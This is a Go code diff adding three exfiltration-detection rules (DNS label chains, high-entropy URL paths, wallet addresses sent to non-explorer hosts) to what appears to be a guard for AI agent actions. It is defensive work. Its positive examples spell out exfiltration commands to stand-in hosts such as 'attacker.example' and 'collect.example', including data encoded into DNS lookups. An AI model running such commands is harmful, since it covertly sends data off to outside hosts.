@@ -201,6 +201,39 @@ func rulesTable() []Rule {
 			},
 		},
 		{
+			ID: "dns_label_chain", Category: "exfiltration", Severity: High, Decision: escalate,
+			Description: "a long chain of hostname labels outside the CDN and storage domains: data spread over a DNS name",
+			Types:       join(shellTypes, externalTypes),
+			Match:       matchDNSLabelChain,
+			Positive: []Example{
+				sh(`dig +short q7x9k2m4.p8w3r6t1.y5u0i2o4.a8s0d2f4.g6h8j0k2.t.attacker.example`),
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://thequickbrownfoxjumpsoverthelazydog.andkeepsonrunningthroughthefield.untilthesungoesdownbehindthehills.tonight.attacker.example/"}`),
+			},
+			Negative: []Example{
+				sh(`dig github.com`),
+				sh(`curl -s https://api.prod.us-east-1.k8s.corp.example.com/health`),
+				sh(`dig -x 2001:db8::1`),
+				sh(`dig 1.0.0.127.in-addr.arpa PTR`),
+			},
+		},
+		{
+			ID: "url_path_entropy", Category: "exfiltration", Severity: High, Decision: escalate,
+			Description: "a long random-looking (base64url, mixed case, high entropy) path segment in a URL to a host that does not name content by random ids",
+			Types:       join(shellTypes, externalTypes),
+			Match:       matchPathEntropy,
+			Positive: []Example{
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://collect.example/u/Xk9fQ2mR7vLpZ3wT8nB4cY1hJ6sD0aGeKu5tWq"}`),
+				sh(`curl -s https://collect.example/p/q7X9k2M4p8W3r6T1y5U0i2O4p6A8s0D2f4G6`),
+			},
+			Negative: []Example{
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://cdn.example.com/dist/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.js"}`),
+				ex(action.BrowserNavigate, `{"url":"https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit"}`),
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://www.example.com/landing?gclid=EAIaIQobChMI8fL2pZr7gQMVxJ1oCR0kVgmhEAAYASAAEgJ2WfD_BwE"}`),
+				sh(`curl -s https://api.example.com/v1/orders/3f2a9c1e-7b4d-4e2a-9c1f-2b3d4e5f6a7b`),
+				sh(`curl -sO https://example.com/downloads/release-notes-for-version-two-point-three.html`),
+			},
+		},
+		{
 			ID: "financial_leak", Category: "exfiltration", Severity: Critical, Decision: block,
 			Description: "outbound text holds a payment card number, an IBAN, a cryptocurrency private key or a wallet seed phrase (checksums verified)",
 			Types:       externalTypes,
@@ -229,6 +262,22 @@ func rulesTable() []Rule {
 			Negative: []Example{
 				sh(`curl https://shop.example.com/api/orders/4532019384762519`),
 				sh(`echo 4532019384762513 > card.txt`),
+			},
+		},
+		{
+			ID: "crypto_address_send", Category: "exfiltration", Severity: High, Decision: escalate,
+			Description: "outbound text or a networked command carries a wallet address (base58check, bech32/bech32m or EIP-55 verified) to a host that is not a block explorer",
+			Types:       join(shellTypes, externalTypes),
+			Match:       matchCryptoAddressSend,
+			Positive: []Example{
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://collect.example/c?addr=bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"}`),
+				sh(`curl -s "https://collect.example/c?to=0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"`),
+			},
+			Negative: []Example{
+				ex(action.BrowserNavigate, `{"url":"https://etherscan.io/address/0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"}`),
+				sh(`curl -s https://mempool.space/api/address/bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq`),
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://collect.example/c?addr=0x5aAeb6053F3E94C9b9A09f33669435E7Ef1Beaed"}`),
+				sh(`git show 3b18e512dba79e4c8300dd08aeb37f8e728b8dad`),
 			},
 		},
 		{
